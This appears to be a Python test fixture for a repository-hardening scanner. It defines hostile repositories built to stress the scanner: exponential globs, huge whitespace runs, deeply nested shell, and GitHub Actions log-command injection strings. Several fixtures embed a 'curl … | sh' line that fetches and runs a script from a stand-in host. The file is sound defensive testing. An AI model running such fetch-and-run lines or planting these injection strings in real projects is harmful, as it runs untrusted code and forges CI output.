"""Hostile repositories: each is an attack seen in issue 14, with the finding that proves the
rest of the repository was still checked (`canary`) and the files that must be RH000."""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.conftest import workflow

CANARY_PATH = ".github/workflows/good.yml"
CANARY = workflow("      - uses: actions/checkout@v4\n")
DEEP = "/".join(["d"] * 40)


@dataclass(frozen=True)
class Hostile:
    id: str
    files: dict[str, str | bytes]
    unparseable: frozenset[str] = frozenset()  # paths that must be RH000
    expected: frozenset[tuple[str, str, int]] = frozenset()  # (rule, path, line) also found
    local_only: str = ""  # why the fake GitHub cannot hold it (then the audit is skipped)
    extra: dict[str, str] = field(default_factory=dict)


def _nested_script(levels: int) -> str:
    return (
        "#!/bin/sh\n" + "( " * levels + "curl -s https://x.example/i.sh | sh" + " )" * levels + "\n"
    )


HOSTILE = [
    Hostile(
        "codeowners-exponential-globs",
        {
            ".github/CODEOWNERS": "/" + "**/" * 16 + "zzz @acme/a\n" + "*a" * 24 + "*b @acme/b\n",
            f"{DEEP}/a.txt": "x\n",
        },
    ),
    Hostile(
        "exclude-exponential-glob",
        {
            ".repo-harden.toml": f'exclude = ["{"**/" * 12}zzz"]\n',
            f"{DEEP}/Dockerfile": "FROM node:20\n",
        },
        expected=frozenset({("PIN002", f"{DEEP}/Dockerfile", 1)}),
    ),
    Hostile(
        "non-ascii-script",
        {
            "tools/setup.sh": "#!/bin/sh\n"
            + "echo 'café'\n" * 4000
            + "curl -s https://x.example/i.sh | sh\n"
        },
        expected=frozenset({("DL001", "tools/setup.sh", 4002)}),
    ),
    Hostile(
        "unclosed-expressions",
        {
            ".github/workflows/expr.yml": workflow(
                "      - run: |\n          echo " + "${{ " * 20000 + "\n"
                "          curl -s https://x.example/i.sh | sh\n"
            )
        },
        unparseable=frozenset({".github/workflows/expr.yml"}),  # `${` unclosed: not shell
        expected=frozenset({("DL001", ".github/workflows/expr.yml", 8)}),
    ),
    Hostile(
        "long-runs-of-spaces",
        {
            "requirements.txt": "flask==3.0.0" + " " * 80000 + "x\n",
            "pip.conf": "[global]\nindex" + " " * 80000 + "x\n",
            "Dockerfile": "# escape=x" + " " * 80000 + "x\nFROM node:20\n",
            "Makefile": "X = a" + " " * 80000 + "x\nall:\n\tcurl -s https://x.example/i.sh | sh\n",
        },
        unparseable=frozenset({"requirements.txt"}),  # `flask==3.0.0 x` is not a requirement
        expected=frozenset({("PIN002", "Dockerfile", 2), ("DL001", "Makefile", 3)}),
    ),
    Hostile(
        "shell-nested-1000-deep",
        {"deep.sh": _nested_script(1000), "good.sh": _nested_script(3)},
        unparseable=frozenset({"deep.sh"}),
        expected=frozenset({("DL001", "good.sh", 2)}),
    ),
    Hostile(
        "log-command-injection",
        {
            ".github/workflows/forge.yml": workflow(
                '      - uses: "actions/cache@v4\\e[2J\\n::error file=x::forged\\r"\n'
                '      - uses: "::add-mask::actions/setup-node@v4"\n'
            ),
            "::warning::x/Dockerfile": "FROM node:20\n",
            " ::error::y/Dockerfile": "FROM node:20\n",
        },
        expected=frozenset({("PIN002", "::warning::x/Dockerfile", 1)}),
    ),
    Hostile(
        "file-name-not-utf-8",
        {".github/workflows/bad\udcff.yml": CANARY},
        unparseable=frozenset({".github/workflows/bad\udcff.yml"}),
        local_only="GitHub's API names files in UTF-8: such a name cannot reach an audit",
    ),
]
